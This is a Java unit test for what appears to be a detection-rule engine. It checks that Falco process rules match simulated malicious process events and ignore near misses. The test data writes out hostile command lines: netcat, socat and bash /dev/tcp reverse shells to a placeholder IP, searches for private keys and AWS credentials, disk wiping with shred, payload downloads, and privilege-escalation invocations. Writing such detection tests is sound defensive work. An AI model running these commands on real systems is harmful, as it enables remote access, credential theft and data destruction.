// SPDX-FileCopyrightText: The Fairlead authors
// SPDX-License-Identifier: Apache-2.0
package io.fairlead.detect.falco;

import static io.fairlead.detect.falco.ProcessEvent.auditd;
import static io.fairlead.detect.falco.ProcessEvent.tetragon;
import static org.assertj.core.api.Assertions.assertThat;

import io.fairlead.detect.Corpus;
import io.fairlead.detect.RuleManifests;
import io.fairlead.detect.RuleSetCompiler;
import io.fairlead.detect.match.RuleMatcher;
import io.fairlead.detect.rule.RuleSet;
import io.fairlead.schemas.record.RuleFile;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;

/** Every published rule that started processes can fulfil: a process that does and one that nearly does. */
class ProcessRulesCorpusTest {
    /** What the published files switch off or leave to their users. */
    private static final String CHANGES = "- rule: Container Run as Root User\n  enabled: true\n"
            + "  override: {enabled: replace}\n"
            + "- macro: allowed_containers\n  condition: (container.image.repository = docker.io/library/shop)\n";

    private static final String PRIVILEGED =
            "cilium_tetragon.log.process_exec.process.pod.container.security_context.privileged";
    private static final String PERMITTED = "cilium_tetragon.log.process_exec.process.cap.permitted";
    private static final String LINKS = "cilium_tetragon.log.process_exec.process.binary_properties.file.inode.links";
    private static final String ENVIRONMENT = "process.env_vars";
    private static final String CWD = "process.working_directory";

    private record Case(String rule, ProcessEvent match, ProcessEvent other) {}

    private static final List<Case> STABLE = List.of(
            new Case(
                    "Run shell untrusted",
                    tetragon("/bin/sh", "-c", "id").parent("/usr/sbin/nginx"),
                    tetragon("/bin/sh", "-c", "kill -0 7").parent("/usr/sbin/nginx")),
            new Case(
                    "System user interactive",
                    tetragon("/usr/bin/id").user("33", "www-data").ancestors("/usr/sbin/sshd"),
                    tetragon("/usr/bin/id").user("33", "www-data").ancestors("/usr/sbin/cron")),
            new Case(
                    "System user interactive",
                    auditd("/bin/login").user("2", "daemon"),
                    auditd("/bin/login").user("1000", "alice")),
            new Case(
                    "Netcat Remote Code Execution in Container",
                    tetragon("/usr/bin/nc", "-e", "/bin/sh", "198.51.100.4").container(),
                    tetragon("/usr/bin/nc", "-e", "/bin/sh", "198.51.100.4")),
            new Case(
                    "Search Private Keys or Passwords",
                    auditd("/usr/bin/find", "/", "-name", "id_rsa"),
                    auditd("/usr/bin/find", "/", "-name", "notes")),
            new Case(
                    "Search Private Keys or Passwords",
                    tetragon("/bin/grep", "-r", "begin rsa private", "/"),
                    tetragon("/bin/cat", "-r", "begin rsa private", "/")),
            new Case(
                    "Remove Bulk Data from Disk", auditd("/usr/bin/shred", "/dev/sda"), auditd("/usr/bin/sh", "shred")),
            new Case(
                    "Debugfs Launched in Privileged Container",
                    tetragon("/sbin/debugfs").container().with(PRIVILEGED, true),
                    tetragon("/sbin/debugfs").container()),
            new Case(
                    "Find AWS Credentials",
                    auditd("/usr/bin/find", "/root/.aws/credentials"),
                    auditd("/usr/bin/find", "/root/.aws/config")),
            new Case(
                    "Execution from /dev/shm",
                    tetragon("/dev/shm/x").container(),
                    tetragon("/dev/shm/x").container("docker.io/calico/node", "v3")),
            new Case(
                    "Execution from /dev/shm",
                    auditd("/usr/bin/x").with("process.args", List.of("./x")).with(CWD, "/dev/shm"),
                    auditd("/usr/bin/x").with("process.args", List.of("./x")).with(CWD, "/tmp")),
            new Case(
                    "Fileless execution via memfd_create",
                    auditd("/memfd:payload (deleted)"),
                    auditd("/memfd:runc_cloned:/proc/self/exe (deleted)")),
            new Case(
                    "Fileless execution via memfd_create",
                    tetragon("/proc/self/fd/5").with(LINKS, 0),
                    tetragon("/proc/self/fd/5").with(LINKS, 1)));

    private static final List<Case> INCUBATING = List.of(
            new Case("Schedule Cron Jobs", auditd("/usr/bin/crontab", "-e"), auditd("/usr/sbin/cron")),
            new Case(
                    "DB program spawned process",
                    tetragon("/bin/sh").parent("/usr/lib/postgresql/bin/postgres"),
                    tetragon("/usr/lib/postgresql/bin/postgres").parent("/usr/lib/postgresql/bin/postgres")),
            new Case(
                    "Launch Privileged Container",
                    started().with(PRIVILEGED, true),
                    started().with(PRIVILEGED, true).with("container.image.name", "quay.io/sysdig/agent")),
            new Case(
                    "Launch Excessively Capable Container",
                    started().with(PERMITTED, List.of("CAP_CHOWN", "CAP_SYS_ADMIN")),
                    started().with(PERMITTED, List.of("CAP_CHOWN"))),
            new Case(
                    "Program run with disallowed http proxy env",
                    tetragon("/usr/bin/curl").with(ENVIRONMENT, List.of("A=b", "http_proxy=http://198.51.100.4")),
                    tetragon("/usr/bin/curl").with(ENVIRONMENT, List.of("A=b"))),
            new Case(
                    "User mgmt binaries",
                    tetragon("/usr/sbin/useradd", "eve"),
                    tetragon("/usr/sbin/useradd", "eve").container()),
            new Case(
                    "Launch Package Management Process in Container",
                    tetragon("/usr/bin/apt-get", "install", "nmap").container(),
                    tetragon("/usr/bin/apt-get", "install", "nmap")
                            .container()
                            .parent("/bin/sh")
                            .ancestors("/usr/bin/dpkg")),
            new Case(
                    "Launch Suspicious Network Tool in Container",
                    tetragon("/usr/bin/nmap").container(),
                    tetragon("/usr/bin/curl").container()),
            new Case(
                    "Launch Suspicious Network Tool on Host",
                    tetragon("/usr/bin/nmap"),
                    tetragon("/usr/bin/nmap").container()),
            new Case(
                    "Launch Remote File Copy Tools in Container",
                    tetragon("/usr/bin/scp").container(),
                    tetragon("/usr/bin/scp")),
            new Case(
                    "Mount Launched in Privileged Container",
                    tetragon("/bin/mount", "/dev/sda", "/mnt").container().with(PRIVILEGED, true),
                    tetragon("/bin/mount").container().with(PRIVILEGED, true)),
            new Case(
                    "Launch Ingress Remote File Copy Tools in Container",
                    tetragon("/usr/bin/curl", "-s", "-o", "x", "http://198.51.100.4")
                            .container(),
                    tetragon("/usr/bin/curl", "-s", "http://198.51.100.4").container()),
            new Case(
                    "Potential Local Privilege Escalation via Environment Variables Misuse",
                    tetragon("/usr/bin/su").with(ENVIRONMENT, List.of("GLIBC_TUNABLES=glibc.malloc.mxfast=x")),
                    tetragon("/usr/bin/su").with(ENVIRONMENT, List.of("HOME=/root"))));

    private static final List<Case> SANDBOX = List.of(
            new Case(
                    "Launch Disallowed Container",
                    started().with("container.image.name", "docker.io/library/other"),
                    started()),
            new Case(
                    "Detect crypto miners using the Stratum protocol",
                    auditd("/tmp/x", "-o", "stratum+tcp://pool.example:3333"),
                    auditd("/tmp/x", "-o", "tcp://pool.example:3333")),
            new Case(
                    "Kubernetes Client Tool Launched in Container",
                    tetragon("/usr/bin/kubectl", "get", "secrets").container(),
                    tetragon("/usr/bin/kubectl", "get", "secrets")),
            new Case("Container Run as Root User", started(), started().user("1000", "app")),
            new Case(
                    "Sudo Potential Privilege Escalation",
                    auditd("/usr/bin/sudoedit", "-s", "\\", "AAAA").with("user.audit.id", "1000"),
                    auditd("/usr/bin/sudoedit", "-s", "\\", "AAAA").with("user.audit.id", "0")),
            new Case(
                    "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
                    auditd("/usr/bin/pkexec").with("user.audit.id", "1000"),
                    auditd("/usr/bin/pkexec", "id").with("user.audit.id", "1000")),
            new Case(
                    "Decoding Payload in Container",
                    tetragon("/usr/bin/base64", "-d").container(),
                    tetragon("/usr/bin/base64", "-d")),
            new Case(
                    "Netcat/Socat Remote Code Execution on Host",
                    tetragon("/usr/bin/socat", "TCP:198.51.100.4:1", "EXEC:/bin/sh"),
                    tetragon("/usr/bin/socat", "TCP:198.51.100.4:1", "EXEC:/bin/sh")
                            .container()),
            new Case(
                    "Network Tool Executed During NPM Package Install",
                    tetragon("/usr/bin/nc").container().parent("/bin/sh").ancestors("/usr/bin/npm"),
                    tetragon("/usr/bin/nc").container().parent("/bin/sh").ancestors("/usr/bin/node")),
            new Case("Known Cryptominer Process Executed", auditd("/tmp/xmrig"), auditd("/tmp/xmr")),
            new Case(
                    "Web Server Spawned Shell",
                    tetragon("/bin/bash").parent("/usr/sbin/apache2"),
                    tetragon("/bin/bash", "/healthcheck").parent("/usr/sbin/apache2")),
            new Case(
                    "Web Server Spawned Suspicious Child Process",
                    tetragon("/usr/bin/wget", "http://198.51.100.4")
                            .parent("/bin/sh")
                            .ancestors("/usr/sbin/php-fpm"),
                    tetragon("/usr/bin/wget", "http://198.51.100.4/status")
                            .parent("/bin/sh")
                            .ancestors("/usr/sbin/php-fpm")),
            new Case(
                    "Reverse Shell from Web Server",
                    tetragon("/bin/bash", "-c", "cat < /dev/tcp/198.51.100.4/1").parent("/usr/bin/gunicorn"),
                    tetragon("/bin/bash", "-c", "cat < /dev/tcp/198.51.100.4/1").parent("/usr/bin/make")));

    @Test
    void stableRules() throws IOException {
        check("falco-rules/falco_rules.yaml", STABLE, 9);
    }

    @Test
    void incubatingRules() throws IOException {
        check("falco-rules/falco-incubating_rules.yaml", INCUBATING, 13);
    }

    @Test
    void sandboxRules() throws IOException {
        check("falco-rules/falco-sandbox_rules.yaml", SANDBOX, 13);
    }

    private static void check(String file, List<Case> cases, int rules) throws IOException {
        List<RuleFile> files = new ArrayList<>();
        files.add(RuleManifests.file(file, Files.readAllBytes(Corpus.path(file))));
        if (file.contains("sandbox")) {
            files.add(RuleManifests.file("ours.yaml", CHANGES.getBytes(StandardCharsets.UTF_8)));
        }
        RuleSet set = RuleSetCompiler.standard().compile(files);
        Set<String> running = new TreeSet<>();
        set.rules().forEach(rule -> running.add(rule.info().title()));
        Set<String> tested = new TreeSet<>();
        cases.forEach(one -> tested.add(one.rule()));
        assertThat(running).hasSize(rules).isEqualTo(tested);
        RuleMatcher matcher = RuleMatcher.compile(set);
        for (Case one : cases) {
            assertThat(titles(matcher, one.match()))
                    .as(one.rule() + " of " + one.match())
                    .contains(one.rule());
            assertThat(titles(matcher, one.other()))
                    .as(one.rule() + " of " + one.other())
                    .doesNotContain(one.rule());
        }
    }

    private static List<String> titles(RuleMatcher matcher, ProcessEvent event) {
        return matcher.match(event.dataset(), true, event.document()).stream()
                .map(match -> match.rule().info().title())
                .toList();
    }

    /** The first process of a container. */
    private static ProcessEvent started() {
        return tetragon("/app/server")
                .container()
                .with("cilium_tetragon.log.process_exec.process.pod.container.pid", 1);
    }
}
